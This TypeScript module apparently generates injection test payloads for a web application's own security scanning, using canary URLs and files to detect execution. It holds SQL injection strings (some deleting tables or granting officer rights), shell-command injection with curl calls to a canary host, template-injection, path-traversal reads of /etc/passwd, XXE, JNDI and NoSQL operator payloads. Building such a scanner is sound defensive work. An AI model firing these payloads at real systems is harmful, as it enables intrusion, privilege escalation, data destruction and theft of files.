/** Where an injected command can leave a trace: a listening server, and a file that nothing else creates. */
export interface Canary {
  url: string
  file: string
}

export interface TextVector {
  family: string
  text: string
}

/**
 * The same query once true and once false, with the same words and length, so that a text search returns the same: different responses mean that the
 * database evaluated it.
 */
export interface VectorPair {
  yes: string
  no: string
}

/** Delays the database or the shell by this many seconds; 0 for no delay. */
export type SlowVector = (seconds: number) => string

/** 1337 * 7331: only an evaluated expression produces it. */
export const CALCULATED = '9801547'
/** Concatenated only if executed. */
export const JOINED = 'goneastray'

const ENDS = ["'", "')", "'))", '"', '")', '`', '', "%'", '\\']
const BREAKS = [
  "'",
  '"',
  "''",
  '`',
  '\\',
  "')",
  '";',
  "'--",
  "'/*",
  "';",
  "'#",
  '%27',
  '%2527',
  "\\'",
  'ʼ',
  '＇',
  "%c0%27'",
]
const STACKED = (canary: Canary): string[] => [
  `create table injected_by_trust (x integer)`,
  `update account set is_officer = 1`,
  `delete from sponsor`,
  `delete from campaign_search`,
  `update membership_level set unit_amount = 1`,
  `copy (select 1) to program 'touch ${canary.file}'`,
  `attach database '${canary.file}' as injected; create table injected.x (y integer)`,
  `select load_extension('${canary.file}')`,
]
const SHELL = (canary: Canary): string[] => [
  `touch ${canary.file}`,
  `curl -s ${canary.url}/shell`,
  `expr 1337 \\* 7331`,
]
const AROUND_COMMANDS: ((command: string) => string)[] = [
  (command) => `; ${command}`,
  (command) => `| ${command}`,
  (command) => `|| ${command}`,
  (command) => `& ${command} &`,
  (command) => `&& ${command}`,
  (command) => `\n${command}\n`,
  (command) => `$(${command})`,
  (command) => `\`${command}\``,
  (command) => `"; ${command}; "`,
  (command) => `'; ${command}; '`,
]
const SUM = '1337*7331'
const TEMPLATES = [`{{${SUM}}}`, `\${${SUM}}`, `<%= ${SUM} %>`, `#{${SUM}}`, `*{${SUM}}`, `@(${SUM})`, `[[${SUM}]]`]
  .concat([`{% print(${SUM}) %}`, `{{=${SUM}}}`, `\`+(${SUM})+\``, `'+(${SUM})+'`, `"+(${SUM})+"`, `;return ${SUM};`])
  .concat([`{{constructor.constructor('return ${SUM}')()}}`, `__import__('os').system('expr 1337')`, `=${SUM}`])
const PATHS = ['/etc/passwd', '../../../../../../../../etc/passwd', '..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd']
  .concat(['....//....//....//....//....//....//etc/passwd', 'file:///etc/passwd', '..\\..\\..\\..\\etc\\passwd'])
  .concat(['/proc/self/environ', '/etc/passwd\u0000.jpg', 'php://filter/resource=/etc/passwd'])
const LDAP = ['*', '*)(uid=*))(|(uid=*', 'x)(|(objectClass=*)', '*)(&', '\\2a\\29']
const OUTSIDE = ({ url }: Canary): string[] => [
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "${url}/entity">]><x>&e;</x>`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
  `<?xml version="1.0"?><!DOCTYPE x SYSTEM "${url}/outside.dtd"><x/>`,
  `<x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="${url}/include"/></x>`,
  `\${jndi:${url.replace('http:', 'ldap:')}/lookup}`,
  `' || (select extractvalue(1, '${url}/sql')) || '`,
  `<!--#include virtual="${url}/ssi"--><!--#exec cmd="curl ${url}/ssi"-->`,
]
/** For full-text search, which has its own query language in each engine. */
const SEARCH = ['"', 'a AND', 'NEAR(', 'a* OR *', 'subject:x', '{a b}:c', '-', '(', ':*', 'a & | b', '!!', "a' & 'b:*"]

/** Families that only affect a database. */
const OF_DATABASES = new Set(['error', 'union', 'joined', 'stacked', 'search'])

export const asksDatabase = ({ family }: TextVector): boolean => OF_DATABASES.has(family)

/** Texts that break out of a statement, a command, a template or a path, by family. */
export function textVectors(canary: Canary): TextVector[] {
  const families: Record<string, string[]> = {
    error: [
      ...BREAKS,
      "' and extractvalue(1,1)--",
      "' and cast('x' as integer)=1--",
      "' order by 999--",
      "' having 1=1--",
    ],
    union: ENDS.flatMap((end) => [
      `${end} union select 'gone'||'astray'--`,
      `${end} union all select 'gone'||'astray','gone'||'astray','gone'||'astray'--`,
    ]),
    joined: ["'||'gone'||'astray'||'", "' || ('gone'||'astray') || '"],
    stacked: STACKED(canary).flatMap((statement) => [`'; ${statement}; --`, `; ${statement}; --`]),
    command: SHELL(canary).flatMap((command) => AROUND_COMMANDS.map((around) => around(command))),
    template: TEMPLATES,
    path: PATHS,
    ldap: LDAP,
    outside: OUTSIDE(canary),
    search: SEARCH,
  }
  return Object.entries(families).flatMap(([family, texts]) => texts.map((text) => ({ family, text })))
}

const QUESTIONS: VectorPair[] = [
  { yes: '1=1', no: '1>1' },
  { yes: '(select 1)<2', no: '(select 1)>2' },
]

/** `or` and `and` with every escape, comments instead of spaces, other encodings of the quote. */
export const pairs: readonly VectorPair[] = [
  ...ENDS.flatMap((end) =>
    QUESTIONS.flatMap(({ yes, no }) => [
      { yes: `${end} or ${yes}--`, no: `${end} or ${no}--` },
      { yes: `${end} and ${yes}--`, no: `${end} and ${no}--` },
    ]),
  ),
  { yes: "' or '1'='1", no: "' or '1'>'1" },
  { yes: "' and '1'='1", no: "' and '1'>'1" },
  { yes: "'/**/or/**/'1'='1", no: "'/**/or/**/'1'<'1" },
  { yes: "'/**/and/**/'1'='1", no: "'/**/and/**/'1'<'1" },
  { yes: "' or 1+1-1 or '1'='0", no: "' or 1-1*1 or '1'='0" },
  { yes: "'/**/or/**/1+1-1/**/or/**/'1'='0", no: "'/**/or/**/1-1*1/**/or/**/'1'='0" },
  { yes: "'\tOR\t'1'='1", no: "'\tOR\t'1'>'1" },
  { yes: '%27 or %271%27=%271', no: '%27 or %271%27>%271' },
  { yes: '%2527 or 1=1--', no: '%2527 or 1>1--' },
  { yes: '＇ or 1=1--', no: '＇ or 1>1--' },
  { yes: "' || '1'=='1", no: "' || '1'!='1" },
  { yes: "';return 1==1;//", no: "';return 1!=1;//" },
]

/** Sleeps of PostgreSQL, expensive queries for SQLite, the shell and JavaScript. */
export const slowVectors: readonly SlowVector[] = [
  (seconds) => `'; select pg_sleep(${seconds})--`,
  (seconds) => `; select pg_sleep(${seconds})--`,
  (seconds) => `' || pg_sleep(${seconds})--`,
  (seconds) => `' and 1=(select 1 from pg_sleep(${seconds}))--`,
  (seconds) => `' or 1=(select 1 from pg_sleep(${seconds}))--`,
  (seconds) => `1 and 1=(select 1 from pg_sleep(${seconds}))`,
  (seconds) => `'/**/or/**/1=(select/**/1/**/from/**/pg_sleep(${seconds}))--`,
  (seconds) => `' and 1=(${counting(seconds)})--`,
  (seconds) => `' or 1=(${counting(seconds)})--`,
  (seconds) => `1 or 1=(${counting(seconds)})`,
  (seconds) => `' or 1=like('abc',upper(hex(randomblob(${Math.round(seconds * 10_000_000) + 1}))))--`,
  (seconds) => `; sleep ${seconds}`,
  (seconds) => `$(sleep ${seconds})`,
  (seconds) => `\`sleep ${seconds}\``,
  (seconds) => `' || sleep(${seconds * 1_000}) || '`,
  (seconds) => `'; const until=Date.now()+${seconds * 1_000}; while(Date.now()<until); '`,
]

function counting(seconds: number): string {
  const steps = Math.round(seconds * 8_000_000) + 1
  return `with recursive n(i) as (select 1 union all select i+1 from n where i<${steps}) select count(*) from n`
}

/** Operator objects that some databases accept in place of values. */
export const objectVectors: readonly unknown[] = [
  { $gt: '' },
  { $ne: null },
  { $regex: '.*' },
  { $where: 'sleep(1000)' },
  { $or: [{}, {}] },
  { $func: 'var_dump' },
  { toString: 'x' },
  { length: 1, 0: 'x' },
  ['a', 'b'],
  [{ $gt: '' }],
  [['a']],
  true,
  0,
]

/** As written in a URL, for a parameter of this name. */
export function queryVectors(name: string): string[] {
  return [`${name}[$ne]=x`, `${name}[$gt]=`, `${name}[$regex]=.*`, `${name}[]=a&${name}[]=b`, `${name}=a&${name}=b`]
}

/** These do not need the field's format: the same text as the local part of an address. */
export function asEmail(text: string): string | null {
  const local = text.replaceAll(/\s+/g, '/**/').replaceAll(/[^A-Za-z0-9.!#$%&'*+/=?^_`{|}~-]/g, '')
  return local !== '' && local.length <= 64 ? `${local}@example.com` : null
}
